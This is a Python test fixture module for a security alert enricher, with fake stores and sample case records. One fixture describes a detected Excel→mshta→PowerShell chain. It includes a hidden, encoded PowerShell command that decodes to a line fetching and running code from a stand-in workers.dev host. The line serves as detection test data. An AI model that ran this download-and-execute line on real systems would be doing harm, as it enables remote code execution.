"""An inbox, a reader and an operator in memory, and cases to show."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from typing import Any, TypeVar

import orjson

from enricher.core.accounts import MonitorRecord, RowAccount, SourceRecord
from enricher.core.canary import Standing
from enricher.core.document import CaseDocument, Json
from enricher.core.drift import DriftRecord, QueryVersion
from enricher.core.feedback import Feedback, Said
from enricher.core.rules import TuningRule
from enricher.core.silence import Fault, Faulty, Silence, Watching, What
from enricher.core.uses import RuleDay, RuleUse
from enricher.errors import DeliveryError, PayloadError, StoreUnavailable
from enricher.model import Backlog
from enricher.ports import (
    AlertRecord,
    AuditRecord,
    CaseRecord,
    ClaimedAlert,
    Condition,
    DeadLetters,
    DeliveryRecord,
    DestinationHealth,
    Overview,
    Page,
    Receipt,
    ReceivedAlert,
    Related,
    Reopened,
    Settlement,
    Submission,
)
from enricher.web import Services, WebSettings
from enricher.web.workbench import Download, Trial

NOW = datetime(2026, 11, 24, 2, 4, 0, tzinfo=UTC)
T = TypeVar("T")
FOREIGN_SCRIPTS = "//script[not(@src='/static/console.js')] | //script[node()]"
"""An XPath: every script on a page but our own file."""


def submission(body: bytes, source: str) -> Submission | None:
    """As the core reads a body, in short: JSON objects only; `{"test": true}` is a connection test."""
    try:
        document = orjson.loads(body)
    except orjson.JSONDecodeError as error:
        raise PayloadError("not_json", str(error)) from error
    if not isinstance(document, dict):
        raise PayloadError("not_an_object", "the body is not a JSON object")
    if document.get("test"):
        return None
    return Submission(body=body, source=source, kind="monitor", identity=body.hex(), row_digests=frozenset({b"12345678"}))


@dataclass
class FakeInbox:
    """Keeps what it accepts; `refuses` makes it a full disk."""

    accepted: list[Submission] = field(default_factory=list)
    refuses: bool = False
    records: dict[str, AlertRecord] = field(default_factory=dict)
    bodies: dict[str, bytes] = field(default_factory=dict)

    def accept(self, submission: Submission) -> Receipt:
        if self.refuses:
            raise StoreUnavailable("disk full", retry_after=7)
        for index, earlier in enumerate(self.accepted):
            if earlier.identity == submission.identity:
                return Receipt(alert_id=f"A{index}", duplicate=True)
        self.accepted.append(submission)
        return Receipt(alert_id=f"A{len(self.accepted) - 1}", duplicate=False)

    def get(self, alert_id: str) -> AlertRecord | None:
        return self.records.get(alert_id)

    def body(self, alert_id: str) -> bytes | None:
        return self.bodies.get(alert_id)

    def claim(self, limit: int) -> list[ClaimedAlert]:
        raise NotImplementedError

    def settle(self, claim: ClaimedAlert, settlement: Settlement) -> bool:
        raise NotImplementedError

    def retry(self, claim: ClaimedAlert, reason: str, delay_s: float) -> None:
        raise NotImplementedError

    def bury(self, claim: ClaimedAlert, reason: str) -> None:
        raise NotImplementedError


@dataclass
class FakeReader:
    """Lists what it was given; a page's cursor is the index of the next item."""

    stored: list[CaseRecord] = field(default_factory=list)
    sent: list[DeliveryRecord] = field(default_factory=list)
    dead: list[AlertRecord] = field(default_factory=list)
    heard: list[SourceRecord] = field(default_factory=list)
    failing: list[DestinationHealth] = field(default_factory=list)
    refuses: bool = False
    matched: list[RuleDay] = field(default_factory=list)
    tickets: dict[str, str] = field(default_factory=dict)
    """Ticket → key of its case."""
    came: dict[str, int] = field(default_factory=dict)
    """How many alerts of the overview's period are in which state."""
    repeats: int = 0
    asked_since: list[datetime] = field(default_factory=list)
    """Of the overview."""
    lines: list[AuditRecord] = field(default_factory=list)
    """Of the audit table, newest first."""

    def case(self, key: str) -> CaseRecord | None:
        return next((record for record in self.stored if record.key == key), None)

    def cases(
        self,
        *,
        limit: int,
        after: str | None = None,
        severity: str | None = None,
        state: str | None = None,
        text: str | None = None,
    ) -> Page[CaseRecord]:
        return page(
            [
                record
                for record in self.stored
                if severity in {None, record.document["severity"]}
                and state in {None, record.state}
                and (text is None or text in f"{record.document['host']} {record.document['tenant']} {record.key}")
            ],
            limit,
            after,
        )

    def related(self, record: CaseRecord, limit: int) -> Related:
        others = [one for one in self.stored if one.key != record.key]
        return Related(
            of_tenant=tuple(o for o in others if same(o, record, "tenant"))[:limit],
            of_host=tuple(o for o in others if same(o, record, "host"))[:limit],
        )

    def deliveries(
        self,
        *,
        limit: int,
        after: str | None = None,
        state: str | None = None,
        reason: str | None = None,
        destination: str | None = None,
    ) -> Page[DeliveryRecord]:
        wanted = {"state": state, "reason": reason, "destination": destination}
        fits = [r for r in self.sent if all(value in {None, getattr(r, name)} for name, value in wanted.items())]
        return page(fits, limit, after)

    def overview(self, since: datetime) -> Overview:
        self.asked_since.append(since)
        opened = [record for record in self.stored if record.opened_at >= since]
        return Overview(
            since=since,
            alerts=self.came,
            repeats=self.repeats,
            opened=Counter(record.document["severity"] for record in opened),
            became=Counter(record.state for record in opened),
            open_now=Counter(record.document["severity"] for record in self.stored if record.state == "open"),
            most_counted=1000,
            deliveries=Counter((record.destination, record.state) for record in self.sent),
        )

    def audit(
        self, *, limit: int, after: str | None = None, item_id: str | None = None, by: str | None = None
    ) -> Page[AuditRecord]:
        lines = [line for line in self.lines if item_id in {None, line.item_id} and by in {None, line.by}]
        return page(lines, limit, after)

    def dead_letter(self, item_id: str) -> AlertRecord | DeliveryRecord | None:
        dead = {r.alert_id: r for r in self.dead} | {r.delivery_id: r for r in self.sent if r.state == "dead"}
        return dead.get(item_id)

    def dead_letters(self) -> list[DeadLetters]:
        alerts = Counter(("alert", word(record), None) for record in self.dead)
        sent = Counter(
            ("delivery", record.reason or "", record.destination) for record in self.sent if record.state == "dead"
        )
        return [
            DeadLetters(kind=kind, reason=reason, destination=destination, count=count, since=NOW)
            for counts in (alerts, sent)
            for (kind, reason, destination), count in counts.items()
        ]

    def destinations(self) -> list[DestinationHealth]:
        return self.failing

    def condition(self) -> Condition:
        return Condition(
            alerts_waiting=7,
            dead_alerts=len(self.dead),
            dead_deliveries=sum(record.state == "dead" for record in self.sent),
            destinations=tuple(self.failing),
        )

    def dead_alerts(
        self, *, limit: int, after: str | None = None, reason: str | None = None, source: str | None = None
    ) -> Page[AlertRecord]:
        return page([r for r in self.dead if reason in {None, word(r)} and source in {None, r.source}], limit, after)

    def quarantined(self) -> dict[str, int]:
        return Counter(map(word, self.dead))

    def sources(self, *, monitors: bool = True) -> list[SourceRecord]:
        return self.heard

    def judged(self) -> list[str]:
        return []

    def unjudged(self, since: datetime) -> int:
        return 0

    def received(self, ids: Sequence[str]) -> list[ReceivedAlert]:
        return []

    def rule_uses(self) -> dict[str, RuleUse]:
        return {}

    def rule_days(self, since: datetime) -> list[RuleDay]:
        return [one for one in self.matched if one.day >= since.date()]

    def protected_tenants(self) -> frozenset[str]:
        return frozenset()

    def drift(self, since: datetime) -> list[DriftRecord]:
        return []

    def queries(self, since: datetime) -> list[QueryVersion]:
        return []

    def case_of_ticket(self, destination: str, tickets: Sequence[str], keys: Sequence[str]) -> str | None:
        if self.refuses:
            raise StoreUnavailable("database gone")
        known = [self.tickets[f"{destination} {ticket}"] for ticket in tickets if f"{destination} {ticket}" in self.tickets]
        return next(iter([*known, *(key for key in keys if self.case(key))]), None)

    def backlog(self) -> Backlog:
        return Backlog(
            alerts_waiting=0,
            oldest_alert_s=0.0,
            deliveries_waiting={"jira": 1},
            dead_alerts=len(self.dead),
            dead_deliveries=sum(record.state == "dead" for record in self.sent),
        )

    def ready(self) -> None:
        if self.refuses:
            raise StoreUnavailable("database gone")


def same(one: CaseRecord, other: CaseRecord, name: str) -> bool:
    """Whether they agree in this, where both have it."""
    mine, theirs = one.document.get(name), other.document.get(name)
    return bool(mine) and mine == theirs


def word(record: AlertRecord) -> str:
    return (record.reason or "unknown").partition(":")[0]


def page(items: Sequence[T], limit: int, after: str | None) -> Page[T]:
    start = int(after or 0)
    end = start + limit
    return Page(items=tuple(items[start:end]), next=str(end) if end < len(items) else None)


@dataclass
class FakeOperator:
    """Knows some ids, and remembers what it was asked to do."""

    known: frozenset[str] = frozenset()
    done: list[str] = field(default_factory=list)
    words: list[tuple[str, Feedback]] = field(default_factory=list)
    discarded: list[tuple[str, str, str]] = field(default_factory=list)
    worked: list[tuple[str, str, str | None]] = field(default_factory=list)
    notes: list[tuple[str, str, str, str | None]] = field(default_factory=list)
    """(by, action, item, detail) of what left a line in the audit table and did nothing else."""

    def retry_dead(self, item_id: str, by: str = "operator") -> bool:
        return self._do(item_id)

    def retry_all(
        self, reason: str, *, destination: str | None = None, kind: str | None = None, by: str = "operator"
    ) -> Reopened:
        self.done.append(f"all {reason} {destination} {kind} by {by}")
        return Reopened(count=3, left=1)

    def discard_dead(self, item_id: str, by: str, why: str = "") -> bool:
        self.discarded.append((item_id, by, why))
        return item_id in self.known

    def reopen_case(self, key: str, by: str = "operator") -> bool:
        return self._do(key)

    def note(self, *, by: str, action: str, item_id: str, detail: str | None = None) -> None:
        self.notes.append((by, action, item_id, detail))

    def acknowledge(self, key: str, by: str, detail: str | None = None) -> bool:
        return self._work(key, f"acknowledged by {by}", detail)

    def assign(self, key: str, to: str | None, by: str, detail: str | None = None) -> bool:
        return self._work(key, f"assigned to {to} by {by}", detail)

    def mute(self, key: str, until: datetime, by: str, why: str, detail: str | None = None) -> bool:
        return self._work(key, f"muted until {until:%Y-%m-%d %H:%M} by {by}: {why}", detail)

    def unmute(self, key: str, by: str, detail: str | None = None) -> bool:
        return self._work(key, f"unmuted by {by}", detail)

    def _work(self, key: str, what: str, detail: str | None) -> bool:
        if key in self.known:
            self.worked.append((key, what, detail))
        return key in self.known

    def note_feedback(
        self, case_key: str, said: Said, by: str, source: str, note: str = "", *, at: datetime | None = None
    ) -> bool:
        before = [word for key, word in self.words if key == case_key]
        self.words.append((case_key, Feedback(said=said, by=by, at=at or NOW, source=source, note=note)))
        return not before or before[-1].said is not said

    def _do(self, name: str) -> bool:
        if name in self.known:
            self.done.append(name)
        return name in self.known


@dataclass
class FakeSessions:
    """Digest → whose it is, until when; `now` is the time."""

    kept: dict[str, tuple[str, datetime]] = field(default_factory=dict)
    now: datetime = NOW
    refuses: bool = False

    def begin(self, digest: str, name: str, lasts: timedelta) -> None:
        self.kept[digest] = (name, self.now + lasts)

    def name(self, digest: str) -> str | None:
        if self.refuses:
            raise StoreUnavailable("database gone")
        name, ends_at = self.kept.get(digest, (None, NOW))
        return name if ends_at > self.now else None

    def end(self, digest: str) -> None:
        self.kept.pop(digest, None)

    def end_all(self, name: str) -> int:
        mine = [digest for digest, (whose, _) in self.kept.items() if whose.partition(":")[0] == name]
        for digest in mine:
            del self.kept[digest]
        return len(mine)


@dataclass
class FakeReplays:
    """Remembers what came."""

    seen: set[str] = field(default_factory=set)
    refuses: bool = False

    def fresh(self, digest: str) -> bool:
        if self.refuses:
            raise StoreUnavailable("database gone")
        is_new = digest not in self.seen
        self.seen.add(digest)
        return is_new


@dataclass
class FakeDialogs:
    """Remembers what was shown, and fails when told to."""

    shown: list[tuple[str, ...]] = field(default_factory=list)
    error: DeliveryError | None = None

    def ask_why(self, trigger: str, key: str, channel: str) -> None:
        if self.error:
            raise self.error
        self.shown.append(("ask", trigger, key, channel))

    def tell(self, channel: str, user: str, text: str) -> None:
        if self.error:
            raise self.error
        self.shown.append(("tell", channel, user, text))


@dataclass
class FakePressure:
    """Counts what was accepted; `reached` is the mark."""

    reached: str | None = None
    added: int = 0

    def mark(self) -> str | None:
        return self.reached

    def accepted(self) -> None:
        self.added += 1


@dataclass
class FakeDraft:
    """What came of a draft."""

    rule: Json | None = None
    text: str | None = None
    problems: tuple[str, ...] = ()


@dataclass
class FakeWorkbench:
    """Has what it was given; `trials` are what each rule would do."""

    written: list[TuningRule] = field(default_factory=list)
    drafts: dict[str, FakeDraft] = field(default_factory=dict)
    trials: dict[str, Trial] = field(default_factory=dict)
    files: list[Download] = field(default_factory=list)
    asked: list[datetime] = field(default_factory=list)

    def rule(self, rule_id: str) -> TuningRule | None:
        return next((rule for rule in self.written if rule.id == rule_id), None)

    def draft(self, key: str) -> FakeDraft | None:
        return self.drafts.get(key)

    def trial(self, rule_id: str, since: datetime) -> Trial | None:
        self.asked.append(since)
        return self.trials.get(rule_id)

    def downloads(self) -> list[Download]:
        return self.files


@dataclass
class World:
    """All that the application was given, to look at afterwards."""

    inbox: FakeInbox = field(default_factory=FakeInbox)
    reader: FakeReader = field(default_factory=FakeReader)
    operator: FakeOperator = field(default_factory=FakeOperator)
    sessions: FakeSessions = field(default_factory=FakeSessions)
    pressure: FakePressure = field(default_factory=FakePressure)
    replays: FakeReplays = field(default_factory=FakeReplays)
    dialogs: FakeDialogs = field(default_factory=FakeDialogs)
    counted: list[tuple[str, str]] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    rules: list[Json] = field(default_factory=list)
    workbench: FakeWorkbench = field(default_factory=FakeWorkbench)
    standings: list[Standing] = field(default_factory=list)
    watchings: dict[str, Watching] = field(default_factory=dict)
    drift: Json = field(default_factory=lambda: {"drift": [], "queries": []})
    now: float = 0.0

    def services(self, *, submission: Callable[[bytes, str], Submission | None] = submission, **settings: Any) -> Services:
        return Services(
            settings=WebSettings(signing_key=b"made up", **settings),
            inbox=self.inbox,
            reader=self.reader,
            operator=self.operator,
            sessions=self.sessions,
            pressure=self.pressure,
            submission=submission,
            explain=explain,
            metrics=lambda: (b"enricher_up 1\n", "text/plain; version=0.0.4; charset=utf-8"),
            count=lambda event, label: self.counted.append((event, label)),
            content_problems=lambda: self.problems,
            canaries=lambda: self.standings,
            watchings=lambda: self.watchings,
            silences=lambda: [silence for one in self.watchings.values() for silence in one.silences],
            tuning=lambda: self.rules,
            workbench=self.workbench,
            drift=lambda days: {"days": days, **self.drift},
            now=lambda: NOW,
            replays=self.replays,
            dialogs=self.dialogs,
            monotonic=lambda: self.now,
        )


def explain(body: bytes) -> Json:
    if submission(body, "explain") is None:
        raise PayloadError("no_rows", "a connection test explains nothing")
    return {"input": {"kind": "monitor", "rows": 0}, "cases": [], "dropped": []}


# --- cases ----------------------------------------------------------------------------------------------------------

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def step(rule: str, evidence: str, points: float, start: float, *, taken: bool = True) -> Any:
    end = start + points if taken else start
    return {
        "step": rule.partition(".")[0],
        "rule": rule,
        "evidence": evidence,
        "points": points,
        "from": start,
        "to": end,
        "taken": taken,
    }


def ancestor(name: str, folder: str, command_line: str | None, pid: int | None, source: str = "observed") -> Any:
    return {
        "image": f"{folder}\\{name}",
        "name": name,
        "command_line": command_line,
        "guid": f"7C1E2B40-96D1-65F0-{pid or 0:04X}-00000000A100",
        "pid": pid,
        "user": r"CORP\m.alvarez",
        "source": source,
    }


RANGE = {"provider": "Cloudflare", "prefix": "104.16.0.0/13", "dated": "2026-11-01", "file": "ips-v4"}


def beacon(**more: Any) -> Any:
    return {
        "class": "regular",
        "period_s": 30.1,
        "score": 0.93,
        "sightings": 24,
        "reason": None,
        "beats": 24,
        "limit": 0.8,
        "mad_s": 0.63,
        "jitter": 0.042,
        "bursts": 0,
        "ts": 0.93,
        "dur": None,
        "hist": None,
        "filled_hours": None,
        "window": "own",
        "other": None,
        "truncated": False,
        "resolution_s": 0.001,
        "requery": None,
        "method": "tsc-1",
        **more,
    }


def critical_document() -> CaseDocument:
    return {
        "key": "enricher-2412d6c5edbed00f",
        "title": "powershell.exe under EXCEL.EXE beacons to example-lab[.]workers[.]dev from ws-fin-0142",
        "earlier_titles": ["powershell.exe contacted example-lab[.]workers[.]dev from ws-fin-0142"],
        "summary": "Excel started mshta, mshta started a hidden PowerShell, and that PowerShell has called "
        "beacon-7f.example-lab.workers.dev, a Cloudflare Workers tenant new in this estate, every 30 seconds.",
        "detection": "T1583.007",
        "technique": {
            "id": "T1583.007",
            "name": "Acquire Infrastructure: Serverless",
            "tactic": "Resource Development",
            "url": "https://attack.mitre.org/techniques/T1583/007/",
        },
        "host": "ws-fin-0142.corp.example",
        "user": r"CORP\m.alvarez",
        "rows": [0, 1, 2],
        "severity": "critical",
        "score": 98,
        "raw_severity": "critical",
        "raw_score": 98,
        "verdict": "malicious",
        "confidence": 0.9,
        "disposition": "open",
        "platform": {
            "id": "cf-workers",
            "name": "Cloudflare Workers",
            "provider": "Cloudflare",
            "category": "edge-worker",
            "family": "cloudflare",
            "seed_pattern": "S1",
        },
        "hostname": "beacon-7f.example-lab.workers.dev",
        "hostname_source": "dns_same_process",
        "hostname_factor": 1.0,
        "candidates": ["cdn.example-lab.workers.dev"],
        "tenant": "example-lab.workers.dev",
        "destination": {
            "ip": "104.21.48.117",
            "port": 443,
            "ptr": None,
            "asn": 13335,
            "holder": "CLOUDFLARENET, US",
            "prefix": "104.21.48.0/20",
            "country": "US",
            "consistent": True,
            "origin": "cymru",
            "consistency": "AS13335 is one of those that Cloudflare Workers is served from.",
        },
        "process": {
            "image": POWERSHELL,
            "name": "powershell.exe",
            "class": "shell",
            "guid": "7C1E2B40-96D1-65F0-3B12-00000000A100",
            "pid": 7316,
            "command_line": "powershell.exe -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAALgAuAC4AKQA=",
            "decoded": ["IEX (iwr https://beacon-7f.example-lab.workers.dev/t -UseBasicParsing)"],
            "original_file_name": "PowerShell.EXE",
            "company": "Microsoft Corporation",
            "hashes": {"sha256": "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f"},
            "identity": ["user_writable"],
            "is_suspicious": True,
            "is_browser": False,
        },
        "lineage": [
            ancestor(
                "mshta.exe", r"C:\Windows\System32", r"mshta.exe C:\Users\m.alvarez\AppData\Local\Temp\inv8841.hta", 6120
            ),
            ancestor(
                "EXCEL.EXE",
                r"C:\Program Files\Microsoft Office\root\Office16",
                r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\m.alvarez\Downloads\invoice-8841.xlsm"',
                5044,
                "history",
            ),
            {
                "image": None,
                "name": None,
                "command_line": None,
                "guid": "7C1E2B40-11AA-65F0-0401-00000000A100",
                "pid": None,
                "user": None,
                "source": "missing",
            },
        ],
        "enrichments": [
            enrichment("asn", "104.21.48.117", "ok", {"asns": [13335], "origin": "cymru"}, age_s=190),
            enrichment("ptr", "104.21.48.117", "negative", reason="no such name"),
            enrichment("rdap", "104.21.48.117", "timeout", reason="no answer within 5 s"),
            enrichment(
                "forward", "beacon-7f.example-lab.workers.dev", "stale", {"addresses": ["104.21.48.117"]}, age_s=7260
            ),
            enrichment("ranges", "104.21.48.117", "ok", RANGE, age_s=180_000),
        ],
        "beacon": beacon(),
        "dns_anomalies": ["tenant_rotation: 3 tenants of one family within 10 minutes"],
        "first_seen_estate": "2026-11-24T01:52:07.412Z",
        "prevalence": 1,
        "shared_hosts": [],
        "history_since": "2026-09-30T11:20:00.000Z",
        "contacts": [f"{datetime(2026, 11, 24, 1, 52, 7, tzinfo=UTC) + timedelta(seconds=30.1 * n)}" for n in range(24)],
        "estate": {
            "role": "workstation",
            "groups": ["finance"],
            "owner": "it-workplace",
            "maintenance": False,
            "service_account": False,
        },
        "ledger": [
            step("platform.score", "Cloudflare Workers, weight 5 × 6, name from dns_same_process (factor 1.0)", 30, 0),
            step("process.shell", "powershell.exe, class shell", 15, 30),
            step("lineage.office_child", "EXCEL.EXE → mshta.exe", 30, 45),
            step("lineage.lolbin_child", "mshta.exe → powershell.exe; only the largest counts", 25, 75, taken=False),
            step("command.encoded", "-EncodedCommand", 15, 75),
            step("command.most", "command line counts at most 20 with this lineage", -10, 90),
            step("behaviour.periodic", "class regular, 24 sightings, median gap 30.1 s", 10, 80),
            step("context.new_tenant", "example-lab.workers.dev not seen in the estate in 30 days", 8, 90),
            step("context.server", "host is a workstation", 8, 98, taken=False),
            step("context.shared_hosts", "1 host uses the tenant; 3 are needed", 5, 98, taken=False),
        ],
        "ledger_digest": "sha256:683517bfce0c4069d610591a2f6d0b4186c585a1b356b1c3277a5ac6a6c16bf9",
        "exceptions": [
            {
                "rule": "TUN-0031",
                "effect": "cap at medium",
                "mode": "shadow",
                "reason": "Finance reporting macros fetch rates.",
                "owner": "finance-platform",
                "expires": "2027-02-22",
            }
        ],
        "drift": [
            {
                "field": "serverless_platform",
                "sumo": "Cloudflare Pages",
                "ours": "Cloudflare Workers",
                "reason": "other_platform",
                "rows": [0],
            }
        ],
        "missing": [
            "third ancestor: only its GUID is known; Sumo Logic is being asked for it",
            "what mshta passed to PowerShell on its standard input: no script block event (4104) in the alert",
        ],
        "next_steps": [
            "Isolate ws-fin-0142.corp.example and keep its memory.",
            "Take invoice-8841.xlsm and inv8841.hta; find who else received the mail.",
            "Look for other hosts that ask for example-lab.workers.dev.",
            "Block the tenant, not the platform, at the resolver and the proxy.",
            "Reset the sessions and the password of m.alvarez.",
        ],
        "hunts": [],
        "tickets": [],
        "first_seen": "2026-11-24T01:52:07.412Z",
        "last_seen": "2026-11-24T02:03:41.090Z",
        "count": 24,
        "findings": [{"guid": "7C1E2B40-96D1-65F0-3B12-00000000A100", "pid": 7316, "score": 98, "severity": "critical"}],
        "links": {"sumo_alert": "https://service.us2.sumologic.com/ui/#/alert/0000000001A2B3C4"},
        "evidence": [{"event_id": 22, "at": "2026-11-24T01:52:07.412Z", "name": "beacon-7f.example-lab.workers.dev"}],
        "insight": None,
    }


def enrichment(source: str, about: str, status: str, detail: Json | None = None, **more: Any) -> Any:
    return {"source": source, "about": about, "status": status, "detail": detail or {}, "age_s": 0, "reason": None, **more}


def delivery(destination: str, state: str = "delivered", **more: Any) -> DeliveryRecord:
    record = DeliveryRecord(
        delivery_id=f"D-{destination}",
        case_key="enricher-2412d6c5edbed00f",
        destination=destination,
        state=state,
        external_id="10042",
        label="SEC-12",
        url="https://jira.example/browse/SEC-12",
        attempts=1,
        due_at=None,
        reason=None,
        detail=None,
        updated_at=NOW + timedelta(seconds=4),
    )
    return replace(record, **more)


def alert_record(alert_id: str = "A1", **more: Any) -> AlertRecord:
    record = AlertRecord(
        alert_id=alert_id,
        state="done",
        kind="monitor",
        source="sumo-prod",
        received_at=NOW,
        attempts=1,
        reason=None,
        cases=("enricher-2412d6c5edbed00f",),
        dropped=({"row": 3, "reason": "no_match: not in the catalog"},),
        size=4120,
        rows=RowAccount(received=3, total=13, cut=True, in_cases=1, repeats=1, dropped=1, set_aside=0),
    )
    return replace(record, **more)


def watching(*, what: What = "heartbeat", source: str = "prod", fault: Fault | None = None) -> Watching:
    """A source that is to be heard every quarter of an hour, and has not been for an hour."""
    since = NOW - timedelta(hours=1)
    silence = Silence(key="S1", what=what, source=source, name="Beat <1>", since=since, begun_at=NOW)
    faulty = (Faulty(source=source, name="Odd <2>", fault=fault, at=NOW),) if fault else ()
    return Watching(every_s=900.0, heartbeat_at=since, silences=(silence,), faulty=faulty)


def source_record(source: str = "sumo-prod", **more: Any) -> SourceRecord:
    beacons = MonitorRecord(
        monitor="Serverless C2",
        last_at=NOW,
        alerts=3,
        rows=31,
        per_hour=0.12,
        kinds={"monitor": 2, "recovery": 1},
        newest=RowAccount(received=10, total=250, cut=True, in_cases=4, repeats=5, dropped=1, set_aside=0),
    )
    record = SourceRecord(
        source=source,
        last_at=NOW,
        alerts=4,
        dead=1,
        repeats=2,
        rows=31,
        per_hour=0.17,
        kinds={"monitor": 2, "recovery": 1},
        monitors=(beacons,),
    )
    return replace(record, **more)


def case_record(document: CaseDocument | None = None, **more: Any) -> CaseRecord:
    document = document or critical_document()
    record = CaseRecord(
        key=document["key"],
        state="open",
        document=document,
        news=(
            {
                "seq": 1,
                "kind": "opened",
                "at": "2026-11-24T02:04:01Z",
                "text": "Opened, critical 98.",
                "lines": ["EXCEL.EXE → mshta.exe → powershell.exe"],
            },
            {"seq": 2, "kind": "evidence", "at": "2026-11-24T02:09:00Z", "text": "Eight more contacts.", "lines": []},
        ),
        alerts=("A1",),
        deliveries=(
            delivery("jira"),
            delivery("servicenow", label="INC0010042", url="https://snow.example/incident/1"),
            delivery("slack", "unknown", label=None, url=None, reason="timeout"),
        ),
        opened_at=NOW,
        updated_at=NOW,
    )
    return replace(record, **more)


def bare_document() -> CaseDocument:
    """The least that a case can be: one event 3 of a process nobody knows."""
    document: Any = critical_document()
    for name, value in document.items():
        document[name] = [] if isinstance(value, list) else None if isinstance(value, str) else value
    document |= {
        "key": "enricher-0000000000000000",
        "host": "",
        "severity": "informational",
        "score": 0,
        "raw_score": 0,
        "raw_severity": "informational",
        "verdict": "unknown",
        "confidence": 0.0,
        "disposition": "informational",
        "summary": "",
        "title": "",
        "detection": "T1583.007",
        "beacon": None,
        "estate": None,
        "prevalence": None,
        "hostname_factor": None,
        "count": 1,
        "destination": dict.fromkeys(document["destination"]),
        "platform": {**dict.fromkeys(document["platform"], ""), "seed_pattern": None},
        "process": {
            **dict.fromkeys(document["process"]),
            "class": "other",
            "hashes": {},
            "identity": [],
            "is_suspicious": False,
            "is_browser": False,
        },
        "links": {},
        "ledger_digest": "",
    }
    return document  # type: ignore[no-any-return]  # put together key by key above
